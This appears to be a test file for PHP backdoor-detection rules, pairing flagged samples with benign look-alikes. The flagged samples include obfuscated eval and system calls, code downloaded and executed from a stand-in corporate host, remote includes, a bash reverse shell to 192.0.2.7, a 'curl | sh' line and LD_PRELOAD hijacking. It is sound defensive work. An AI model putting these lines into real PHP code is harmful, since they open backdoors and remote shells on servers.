<?php

// ruleid: php.backdoor.decoded-code
eval(base64_decode('ZWNobyAxOw=='));
// ruleid: php.backdoor.decoded-code
@EVAL("?>" . gzinflate(base64_decode($blob)));
$code = str_rot13('cucvasb();');
// ruleid: php.backdoor.decoded-code
assert($code);
$call = base64_decode('c3lzdGVt');
// ruleid: php.backdoor.decoded-code
$call('id');
// ok: php.backdoor.decoded-code
$picture = base64_decode($row['picture']);
// ok: php.backdoor.decoded-code
assert(base64_decode($text) === $known);
// ok: php.backdoor.decoded-code
file_put_contents('picture.png', base64_decode($row['picture']));

$f = 'sys' . 'tem';
// ruleid: php.backdoor.hidden-name
$f('id');
// ruleid: php.backdoor.hidden-name
('pass' . 'thru')('id');
$g = chr(115) . chr(121) . 'stem';
// ruleid: php.backdoor.hidden-name
call_user_func($g, 'id');
// ruleid: php.backdoor.hidden-name
"\x73ystem"('id');
$h = strrev('metsys');
// ruleid: php.backdoor.hidden-name
$h('id');
$callback = 'strtolower';
// ok: php.backdoor.hidden-name
$callback('ID');
$handler = 'handle' . $kind;
// ok: php.backdoor.hidden-name
call_user_func([$this, $handler]);
$message = 'first' . 'second';
// ok: php.backdoor.hidden-name
trim($message);

// ruleid: php.backdoor.download-and-run
eval(file_get_contents('https://files.corp.example/update.txt'));
$handle = curl_init('https://files.corp.example/update');
$script = curl_exec($handle);
// ruleid: php.backdoor.download-and-run
file_put_contents('/srv/www/update.php', $script);
// ruleid: php.backdoor.download-and-run
shell_exec($script);
// ok: php.backdoor.download-and-run
file_put_contents('/srv/data/rates.json', $script);
// ok: php.backdoor.download-and-run
$rates = json_decode(file_get_contents('https://rates.corp.example/today'));
// ok: php.backdoor.download-and-run
include file_get_contents('current.txt');

// ruleid: php.backdoor.remote-include
include 'http://files.corp.example/library.txt';
// ruleid: php.backdoor.remote-include
require('data:text/plain;base64,' . $blob);
// ok: php.backdoor.remote-include
include 'library.php';
// ok: php.backdoor.remote-include
include __DIR__ . '/http/client.php';

// ruleid: php.backdoor.reverse-shell
exec("/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'");
// ruleid: php.backdoor.reverse-shell
`curl -s https://files.corp.example/i.sh | sh`;
// ok: php.backdoor.reverse-shell
exec('curl -s -o rates.json https://rates.corp.example/today');
// ok: php.backdoor.reverse-shell
exec('bash build.sh');

// ruleid: php.backdoor.interpreter-setting
ini_set('auto_prepend_file', '/tmp/x.php');
// ruleid: php.backdoor.interpreter-setting
putenv('LD_PRELOAD=/tmp/x.so');
// ruleid: php.backdoor.interpreter-setting
\ini_alter('open_basedir', '/');
// ok: php.backdoor.interpreter-setting
ini_set('memory_limit', '256M');
// ok: php.backdoor.interpreter-setting
putenv('LANG=C.UTF-8');

// ruleid: php.code.text-as-code
$double = create_function('$x', 'return $x * 2;');
// ruleid: php.code.text-as-code
preg_replace('/.*/e', $with, '.');
// ruleid: php.code.text-as-code
assert("$x > 1");
// ok: php.code.text-as-code
assert($x > 1, 'too small');
// ok: php.code.text-as-code
preg_replace('/one/i', 'e', $text);
// ok: php.code.text-as-code
$double = fn ($x) => $x * 2;
